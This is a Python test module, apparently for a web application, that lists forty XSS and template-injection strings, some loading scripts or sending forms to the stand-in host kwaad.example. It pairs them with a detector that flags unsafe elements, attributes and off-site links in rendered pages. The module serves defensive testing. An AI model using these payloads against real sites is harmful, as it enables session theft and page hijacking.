"""Forty texts that would be more than text on a page that does not write them as text."""

from lxml import html

TEXTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//kwaad.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=//kwaad.example'>",
    "<link rel=stylesheet href=//kwaad.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//kwaad.example><button>Akkoord</button></form>",
    "<input name=csrf_token value=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><b class=kwaad>x</b>",
    "` onmouseover=alert(1) `",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<b class=kwaad>\u202c",
    "%(naam)s %s {naam} {0.__class__}",
)
NAMES = ("href", "src", "action", "formaction", "data", "srcdoc", "poster", "xlink:href")
"""Attributes that lead somewhere."""
OURS = ("/", "#", "?", "https://", "mailto:", "otpauth:")
"""What such an attribute of a page of ours begins with."""


STRANGE = ("iframe", "object", "embed", "base", "style", "math")
"""Elements that no page of ours has."""


def faults(page: html.HtmlElement) -> list[str]:
    """What a page holds that no page of ours ever does."""
    wrong = [f"<{element.tag}>" for element in page.iter(*STRANGE)]
    wrong += [f"<b> {element.text}" for element in page.find_class("kwaad")]
    wrong += ["inline script" for script in page.iter("script") if not script.get("src", "").startswith("/")]
    for element in page.iter(html.etree.Element):
        wrong += [f"{name}={value}" for name, value in element.attrib.items() if _is_strange(name, value)]
    for form in page.forms:
        wrong += [f"hidden {name}, empty and again" for name in _emptied(form)]
    return wrong


def _emptied(form: html.HtmlElement) -> set[str]:
    """The hidden fields that are there with nothing and with something: a browser sends both, in order."""
    hidden = form.xpath(".//input[@type='hidden']")
    empty = {field.name for field in hidden if not field.value}
    return empty & {field.name for field in hidden if field.value}


def _is_strange(name: str, value: str) -> bool:
    if name.startswith("on") or name in ("style", "http-equiv"):
        return True
    return name in NAMES and value != "" and (value.startswith("//") or not value.startswith(OURS))
